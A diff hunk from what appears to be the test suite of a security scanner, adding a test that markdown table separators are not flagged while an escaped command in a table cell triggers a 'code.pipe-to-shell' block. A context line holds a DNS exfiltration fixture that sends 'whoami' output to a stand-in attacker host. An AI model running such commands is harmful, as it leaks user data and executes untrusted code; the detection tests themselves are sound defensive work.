@@ -219,6 +219,14 @@ def test_entering_the_key_folder_then_calling_an_api_is_not_a_flow_of_keys() -> 
     assert rules({"scripts/deploy.sh": script}) == {}
 
 
+def test_a_table_rows_separators_pipe_nothing_but_a_command_in_a_cell_counts() -> None:
+    header = "| HTTP | Python (`anthropic.*`) | Ruby (`Anthropic::Errors::*`) |\n|---|---|---|\n"
+    assert rules(md(header + "| 400 | `BadRequestError` | `BadRequestError` |\n")) == {}
+    assert rules(md("| step | command |\n|---|---|\n"
+                    f"| setup | `{BAD.replace('|', chr(92) + '|')}` |\n")) == {
+        "code.pipe-to-shell": "block"}
+
+
 def test_dns_and_image_side_channels() -> None:
     assert rules({"a.sh": "nslookup $(whoami).dns.attacker.invalid\n"}) == {
         "code.dns-exfiltration": "block"}
